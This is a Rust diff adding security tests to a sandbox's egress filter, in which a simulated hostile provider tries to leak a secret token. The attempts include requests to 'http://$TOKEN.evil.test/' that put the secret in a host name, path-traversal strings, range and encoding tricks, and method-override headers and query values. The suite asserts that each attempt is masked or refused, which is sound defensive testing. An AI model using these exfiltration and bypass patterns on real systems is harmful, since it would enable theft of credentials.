@@ -11,7 +11,7 @@ use belljar_upstream::{Upstream, answer, echo};
 use crate::egress::{fetch, grant, said};
 use crate::expect::that;
 use crate::row::{Row, Stops, Way, imp};
-use crate::tools::{line, read_text, run, shown};
+use crate::tools::{line, path, read_text, run, shown};
 
 /// A value that only its guest may see.
 const VALUE: &str = "sec-05-value-1b7e";
@@ -27,6 +27,10 @@ pub(crate) fn rows() -> Vec<Row> {
         two_hosts(),
         own_header(),
         printed(),
+        crossing(),
+        echoed_names(),
+        partial(),
+        overridden(),
         imp("SEC-04", "a provider panics and traps to see what the error tells")
             .shell("export RUST_BACKTRACE=full WASMTIME_BACKTRACE_DETAILS=1")
             .act(|scene| {
@@ -184,6 +188,181 @@ fn printed() -> Row {
             "masked in the answer, the error, the log; check warns".to_owned()
         })
         .stopped_by(&["redact"])
+}
+
+/// A secret that can stand in a host name.
+const NAME: &str = "SecRet-Tok3n-Abcdefghij";
+
+/// Whether any of this secret is in a text: half of it, in either case.
+fn leaks(text: &str) -> bool {
+    let (text, secret) = (text.to_lowercase(), NAME.to_lowercase());
+    let half = secret.len() / 2;
+    (0..=secret.len() - half).any(|at| text.contains(&secret[at..at + half]))
+}
+
+fn crossing() -> Row {
+    let upstream = Arc::new(Upstream::plain(|_| answer("200 OK", "", "fine")));
+    let origin = format!("http://127.0.0.1:{}", upstream.port());
+    imp(
+        "SEC-08",
+        "a provider that holds a secret puts it where belljar speaks: names, paths, refusals, errors, the log",
+    )
+    .config(&grant(&origin, "paths = [\"/a\"]"))
+    .config("env = { TOKEN = \"${secret:name}\" }\nfs = { \"/d\" = \"granted-sec-08\" }")
+    .settings("[secrets]\nname = { env = \"NAME\" }")
+    .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
+    .prepare(|site| drop(site.write("granted-sec-08/a.txt", "fine")))
+    .act(move |scene| {
+        let _alive = &upstream;
+        let deep = "x".repeat(150);
+        let reads = [
+            fetch("GET http://$TOKEN.evil.test/"),
+            fetch(&format!("GET {origin}/$TOKEN")),
+            fetch(&format!("GET {origin}/{deep}$TOKEN")),
+            fetch(&format!("$TOKEN {origin}/a")),
+            fetch(&format!("GET {origin}/a|header $TOKEN: x")),
+            format!("reach/{}", path("https://$TOKEN.evil.test/")),
+            format!("reach/{}", path("https://evil.test:1/%53$TOKEN")),
+            format!("need/{}", path("/d/../$TOKEN")),
+            format!("need/{}", path(format!("/d/../{deep}{deep}$TOKEN"))),
+            format!("raw/{}", path("../$TOKEN")),
+            format!("open/{}", path(format!("/d/../{deep}$TOKEN"))),
+            "errors/failed/cut".to_owned(),
+            "errors/denied/cut".to_owned(),
+            "errors/unavailable/cut".to_owned(),
+            "errors/invalid/cut".to_owned(),
+            "errors/failed/hidden".to_owned(),
+            "print-cut".to_owned(),
+            "env".to_owned(),
+        ];
+        for reference in &reads {
+            let answer = scene.read(reference);
+            let said = answer.as_ref().map_or_else(ToString::to_string, ToString::to_string);
+            assert!(!leaks(&said), "{reference}: {said}");
+        }
+        let told = shown(&scene.read("errors/failed/quotes"));
+        assert!(!told.contains("no\\\"; run:"), "it left its quotation marks: {told}");
+        let log = scene.stage.process().stderr();
+        assert!(log.contains("****") && !leaks(&log), "in the log: {log}");
+        let records = fs::read_to_string(scene.site().path("audit.jsonl")).unwrap_or_default();
+        assert!(records.contains(".evil.test") && !leaks(&records), "in the records: {records}");
+        format!("masked in {} answers, errors, hints, the log and the records", reads.len())
+    })
+    .stopped_by(&["redact"])
+}
+
+fn echoed_names() -> Row {
+    let upstream = Arc::new(Upstream::plain(|asked| {
+        let token = asked.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
+        let trailer = format!("x-t-{token}: {token}\r\n");
+        let head = format!("HTTP/1.1 200 OK\r\nx-{token}-y: {}\r\nconnection: close\r\n", token.to_uppercase());
+        format!("{head}trailer: x-t-{token}\r\ntransfer-encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n{trailer}\r\n")
+            .into_bytes()
+    }));
+    let origin = format!("http://127.0.0.1:{}", upstream.port());
+    imp("SEC-08", "an upstream puts the secret that it got into the names of its headers and trailers")
+        .config(&grant(&origin, "headers = { authorization = \"Bearer ${secret:name}\" }"))
+        .settings("[secrets]\nname = { env = \"NAME\" }")
+        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
+        .act(move |scene| {
+            let told = said(&scene.read(&fetch(&format!("GET {origin}/"))));
+            assert!(told.contains("body") && told.contains("got x-****") && !leaks(&told), "{told}");
+            assert_eq!(upstream.asked()[0].header("authorization"), Some(&*format!("Bearer {NAME}")));
+            "names are masked".to_owned()
+        })
+        .stopped_by(&["redact"])
+}
+
+fn partial() -> Row {
+    // Honours ranges, other codings and other character sets, and echoes what it is sent.
+    let upstream = Arc::new(Upstream::plain(|asked| {
+        let token = asked.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
+        let half = token.len() / 2;
+        match asked.path() {
+            "/range" if asked.header("range").is_some() => answer("206 Partial Content", "", &token[..half]),
+            "/always" => answer("206 Partial Content", "content-range: bytes 0-10/22\r\n", &token[..half]),
+            "/delta" => answer("226 IM Used", "im: x\r\n", &token[half..]),
+            "/parts" => answer("200 OK", "content-type: multipart/byteranges; boundary=b\r\n", &token[..half]),
+            "/coded" => answer("200 OK", "content-encoding: x-rot13\r\n", &token[..half]),
+            "/transfer" => format!(
+                "HTTP/1.1 200 OK\r\nconnection: close\r\ntransfer-encoding: gzip, chunked\r\n\r\nb\r\n{}\r\n0\r\n\r\n",
+                &token[..11]
+            )
+            .into_bytes(),
+            "/charset" => answer("200 OK", "content-type: text/plain; charset=utf-7\r\n", &token[..half]),
+            _ => echo(asked),
+        }
+    }));
+    let origin = format!("http://127.0.0.1:{}", upstream.port());
+    imp("SEC-09", "a provider asks for a part of an echo, or for one in another coding")
+        .config(&grant(&origin, "headers = { authorization = \"Bearer ${secret:name}\" }"))
+        .settings("[secrets]\nname = { env = \"NAME\" }")
+        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
+        .act(move |scene| {
+            upstream.forget();
+            for asked in ["/range", "/always", "/delta", "/parts", "/coded", "/transfer", "/charset"] {
+                let order = format!("GET {origin}{asked}|header range: bytes=0-10|header if-range: x|header a-im: x");
+                let told = said(&scene.read(&fetch(&order)));
+                assert!(!leaks(&told), "{asked}: {told}");
+            }
+            let asked = upstream.asked();
+            for name in ["range", "if-range", "a-im"] {
+                assert!(asked.iter().all(|one| one.header(name).is_none()), "{name} is sent");
+            }
+            "the whole, in the plain, or an error".to_owned()
+        })
+        .stopped_by(&["whole"])
+}
+
+fn overridden() -> Row {
+    let upstream = Arc::new(Upstream::plain(echo));
+    let origin = format!("http://127.0.0.1:{}", upstream.port());
+    imp("SEC-09", "a provider has an upstream read another method, path or parameter than was judged")
+        .config(&grant(&origin, "methods = [\"POST\"], query = { api_key = \"${secret:name}\" }"))
+        .settings("[secrets]\nname = { env = \"NAME\" }")
+        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
+        .act(move |scene| {
+            upstream.forget();
+            let names = [
+                "x-http-method-override",
+                "X-HTTP-Method",
+                "x-method-override",
+                "x_http_method_override",
+                "x-original-url",
+                "x-rewrite-url",
+                "x-forwarded-host",
+                "x-forwarded-for",
+                "forwarded",
+                "x-real-ip",
+                "te",
+                "expect",
+                "trailer",
+                "upgrade",
+                "connection",
+                "via",
+            ];
+            for name in names {
+                let told = said(&scene.read(&fetch(&format!("POST {origin}/|header {name}: x"))));
+                assert!(told.starts_with("refused: header"), "{name}: {told}");
+            }
+            for query in [
+                "_method=DELETE",
+                "%5Fmethod=DELETE",
+                "x-http-method-override=PUT",
+                "API_KEY=1",
+                "api.key=1",
+                "api_key%5B%5D=1",
+                "api%255Fkey=1",
+            ] {
+                let told = said(&scene.read(&fetch(&format!("POST {origin}/?{query}"))));
+                assert!(told.starts_with("refused: "), "{query}: {told}");
+            }
+            assert_eq!(upstream.connections(), 0);
+            let told = said(&scene.read(&fetch(&format!("POST {origin}/?q=1|header x-fine: y"))));
+            assert!(told.starts_with("status 200") && !leaks(&told), "{told}");
+            format!("{} headers and 7 queries refused", names.len())
+        })
+        .stopped_by(&["override"])
 }
 
 /// Exactly this text.
